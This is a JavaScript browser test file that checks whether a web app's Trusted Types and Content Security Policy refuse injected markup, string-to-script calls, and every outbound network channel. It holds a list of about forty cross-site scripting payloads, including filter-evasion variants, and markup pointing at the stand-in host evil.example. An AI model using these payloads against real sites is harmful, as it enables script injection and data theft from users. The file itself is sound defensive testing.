// What the page's policy forbids, tried for real: markup and scripts that come as strings, and every way out of the tab.
import { expect, test } from './fixture.mjs';

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"></svg>',
  '<svg/onload=alert(1)>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<form action="https://evil.example/"><input name="a"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<object data="https://evil.example/"></object>',
  '<embed src="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><use href="data:image/svg+xml,x"></use></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><p>x</p></foreignObject></svg>',
  '<div style="background:url(https://evil.example/)">x</div>',
  '<div style="background:\\75rl(https://evil.example/)">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="a" onclick="alert(1)">x</p>',
  "<p title='a' onclick='alert(1)'>x</p>",
  '<p title="a"onclick="alert(1)">x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?>',
  '<p',
  '<',
];

const HARMLESS = [
  '',
  'text & <b class="strong">more</b>',
  '<section class="view"><h1>Title</h1><p>Text<br>more</p><!----></section>',
  '<svg viewBox="0 0 24 24" aria-hidden="true"><path class="beam" d="M4 12 22 8v8z"></path><circle cx="4.5" cy="12" r="2.5"/></svg>',
  '<a href="#view=trail" data-id="x">x</a><a href="./online.html?open=1">y</a><a href="https://docs.aws.amazon.com/" rel="noopener">z</a>',
  '<button type="button" disabled aria-pressed="true" style="width: 4px">x</button>',
  '<!>',
];

test('markup of other than allowed elements and attributes is refused', async ({ app }) => {
  const passed = await app.evaluate((list) => list.filter((markup) => {
    try {
      document.createElement('div').innerHTML = markup;
      return true;
    } catch (error) {
      return !(error instanceof TypeError);
    }
  }), HOSTILE);
  expect(passed).toEqual([]);
});

test('static templates pass', async ({ app }) => {
  const refused = await app.evaluate((list) => list.flatMap((markup) => {
    try {
      document.createElement('div').innerHTML = markup;
      return [];
    } catch (error) {
      return [`${markup}: ${error}`];
    }
  }), HARMLESS);
  expect(refused).toEqual([]);
});

test('no string becomes a script', async ({ app, watch }) => {
  watch.expect(/policy: trusted-types blocked trusted-types-policy mine/);
  watch.expect(/policy: trusted-types blocked trusted-types-policy trailbeam/);
  watch.expect(/console: Creating a TrustedTypePolicy named '(?:mine|trailbeam)'/);
  const ran = await app.evaluate(() => {
    const tries = {
      eval: () => eval('1'),
      function: () => new Function('return 1')(),
      scriptText: () => { document.createElement('script').text = '1'; },
      scriptUrl: () => { document.createElement('script').src = 'https://evil.example/x.js'; },
      workerUrl: () => new Worker('https://evil.example/x.js'),
      workerBlob: () => new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
      policy: () => trustedTypes.createPolicy('mine', {}),
      again: () => trustedTypes.createPolicy('trailbeam', {}),
    };
    const runs = ([, run]) => { try { run(); return true; } catch { return false; } };
    // In a task of the page's own: what the test runner calls directly may use eval.
    return new Promise((done) => {
      setTimeout(() => done(Object.entries(tries).filter(runs).map(([name]) => name)));
    });
  });
  expect(ran).toEqual([]);
});

// Every channel a page has to another host. The sink is a server of this test on another port: another origin, really listening.
test('no channel leads out of the tab', async ({ app, watch, appUrl }) => {
  const { createServer } = await import('node:http');
  const heard = [];
  const sink = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('1');
  });
  sink.on('upgrade', (request, socket) => { heard.push(`upgrade ${request.url}`); socket.destroy(); });
  await new Promise((ready) => { sink.listen(0, '127.0.0.1', ready); });
  const out = `http://127.0.0.1:${sink.address().port}`;
  watch.expect(/policy: connect-src blocked/);
  watch.expect(/policy: (?:img|style|frame|form|object|media|font|manifest|default|script)-/);
  watch.expect(/console: /); // Chromium repeats each refusal as an error

  const finished = await app.evaluate(async (base) => {
    // Some refusals throw, some are silent, some never settle.
    const quiet = (run) => Promise.race([
      (async () => { try { await run(); } catch { /* refused */ } })(),
      new Promise((done) => { setTimeout(done, 500); }),
    ]);
    const element = (name, set) => { const made = document.createElement(name); Object.assign(made, set); document.body.append(made); };
    await quiet(() => fetch(`${base}/fetch`));
    await quiet(() => fetch(`${base}/no-cors`, { mode: 'no-cors', method: 'POST', body: 'x' }));
    await quiet(() => { const request = new XMLHttpRequest(); request.open('GET', `${base}/xhr`); request.send(); });
    await quiet(() => new WebSocket(`${base.replace('http', 'ws')}/ws`));
    await quiet(() => new EventSource(`${base}/sse`));
    await quiet(() => navigator.sendBeacon(`${base}/beacon`, 'x'));
    await quiet(() => element('img', { src: `${base}/img` }));
    await quiet(() => element('link', { rel: 'stylesheet', href: `${base}/css` }));
    await quiet(() => element('link', { rel: 'prefetch', href: `${base}/prefetch` }));
    await quiet(() => element('link', { rel: 'preload', as: 'image', href: `${base}/preload` }));
    await quiet(() => element('link', { rel: 'manifest', href: `${base}/manifest` }));
    await quiet(() => element('iframe', { src: `${base}/frame` }));
    await quiet(() => element('object', { data: `${base}/object` }));
    await quiet(() => element('video', { src: `${base}/video` }));
    await quiet(() => element('div', { style: `background-image:url(${base}/background)` }));
    await quiet(() => new FontFace('x', `url(${base}/font)`).load());
    await quiet(() => import(`${base}/import`));
    await quiet(() => {
      const form = document.createElement('form');
      form.action = `${base}/form`;
      document.body.append(form);
      form.submit();
    });
    await new Promise((done) => { setTimeout(done, 700); });
    return true;
  }, out);

  expect(finished).toBe(true);
  expect(app.url().split('#')[0]).toBe(appUrl);
  expect(heard).toEqual([]);
  sink.closeAllConnections(); // Chromium may have connected ahead without asking anything
  sink.close();
});
